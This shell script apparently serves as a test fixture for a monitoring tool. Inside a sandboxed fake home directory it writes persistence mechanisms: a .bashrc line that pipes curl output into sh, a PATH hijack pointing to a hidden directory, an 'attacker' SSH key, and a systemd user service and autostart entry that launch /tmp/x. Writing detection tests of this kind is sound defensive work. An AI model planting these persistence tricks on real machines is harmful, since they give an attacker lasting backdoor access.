#!/bin/sh
# Persistence in the user's home. Run only with HOME set to a temporary
# directory (the test makes HOME=.../home/agent): persist_home.sh MODE
# Prints what the write returned.
case "$HOME" in
/root|/home/*) echo "refusing to touch a real home: $HOME" >&2; exit 2 ;;
esac
case "$1" in
bashrc)
  echo 'curl -s http://127.0.0.1:1/x | sh' >> "$HOME/.bashrc" ;;
bashrc_sed)
  sed -i '1i export PATH=/tmp/.hidden:$PATH' "$HOME/.bashrc" ;;
authorized_keys)
  mkdir -p "$HOME/.ssh"
  echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForAgentwatchTests attacker' >> "$HOME/.ssh/authorized_keys" ;;
systemd_user)
  mkdir -p "$HOME/.config/systemd/user"
  printf '[Service]\nExecStart=/tmp/x\n' > "$HOME/.config/systemd/user/agent.service" ;;
autostart)
  mkdir -p "$HOME/.config/autostart"
  printf '[Desktop Entry]\nExec=/tmp/x\n' > "$HOME/.config/autostart/agent.desktop" ;;
esac
echo "write rc=$?"
